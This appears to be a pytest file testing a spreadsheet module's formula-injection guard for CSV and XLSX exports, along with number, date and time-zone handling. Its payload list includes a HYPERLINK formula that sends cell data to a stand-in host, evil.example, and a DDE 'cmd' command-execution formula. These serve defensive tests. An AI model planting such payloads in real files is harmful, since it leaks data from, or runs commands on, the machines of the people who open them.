"""collections_app.spreadsheet: the one writer of CSV and XLSX files, and its formula guard."""
import csv
import datetime as dt
import io
from decimal import Decimal as D

import openpyxl
import pytest

from collections_app import spreadsheet

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "-A1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "+8613800000000",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_gets_a_quote(text):
    assert spreadsheet.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "abc", "张三", "1+1", "a=b", "'=already", "-12.50", "-3", "12.5", " =x"])
def test_ordinary_text_and_plain_numbers_are_unchanged(text):
    assert spreadsheet.neutralise(text) == text


def read_csv(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_every_payload_and_keeps_numbers():
    rows = [[p, D("-12.50"), -3, "-4.25", None, dt.date(2026, 3, 1)] for p in PAYLOADS]
    out = read_csv(spreadsheet.csv_bytes(["=head", "amount", "n", "text", "none", "date"], rows))
    assert out[0] == ["'=head", "amount", "n", "text", "none", "date"]
    for payload, row in zip(PAYLOADS, out[1:], strict=True):
        assert row == ["'" + payload, "-12.50", "-3", "-4.25", "", "2026-03-01"]


def test_xlsx_text_cells_are_neutralised_and_numbers_stay_numbers():
    rows = [[p, D("-12.50"), -3, "-4.25", D("0.4545"), None, dt.date(2026, 3, 1), "#N/A"] for p in PAYLOADS]
    data = spreadsheet.xlsx_bytes(["=head", "amount", "n", "text", "rate", "none", "date", "err"], rows,
                                  title="Roll rates: M1/M2")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "Roll rates  M1 M2"
    cells = list(sheet.iter_rows())
    assert cells[0][0].value == "'=head" and cells[0][0].data_type == "s" and cells[0][0].font.bold
    for payload, row in zip(PAYLOADS, cells[1:], strict=True):
        text, amount, n, neg_text, rate, none, date, err = row
        # (XML reads a stored CR back as LF)
        assert (text.value, text.data_type) == ("'" + payload.replace("\r", "\n"), "s")
        assert amount.data_type == "n" and amount.value == -12.5 and amount.number_format == "0.00"
        assert n.data_type == "n" and n.value == -3
        assert (neg_text.value, neg_text.data_type) == ("-4.25", "s")
        assert rate.value == 0.4545 and rate.number_format == "0.0000"
        assert none.value is None
        assert date.value == dt.datetime(2026, 3, 1) and date.is_date
        assert (err.value, err.data_type) == ("#N/A", "s")
    assert not any(c.data_type == "f" for row in cells for c in row)


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    data = spreadsheet.xlsx_bytes(["h"], [["a\x00b\x07c"]])
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == "abc"


def test_aware_times_are_written_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = dt.datetime(2026, 3, 1, 16, 30, tzinfo=dt.UTC)
    assert read_csv(spreadsheet.csv_bytes(["t"], [[moment]]))[1] == ["2026-03-02 00:30:00"]
    data = spreadsheet.xlsx_bytes(["t"], [[moment]])
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A2"].value == dt.datetime(2026, 3, 2, 0, 30)


def test_download_answers_an_attachment_of_either_format():
    csv_response = spreadsheet.download("csv", "aging-20260301", ["a"], [["=1"]])
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == 'attachment; filename="aging-20260301.csv"'
    xlsx_response = spreadsheet.download("xlsx", "aging-20260301", ["a"], [["=1"]])
    assert xlsx_response["Content-Type"] == spreadsheet.CONTENT_TYPES["xlsx"]
    assert openpyxl.load_workbook(io.BytesIO(xlsx_response.content)).active["A2"].value == "'=1"
    with pytest.raises(ValueError):
        spreadsheet.download("pdf", "x", ["a"], [])
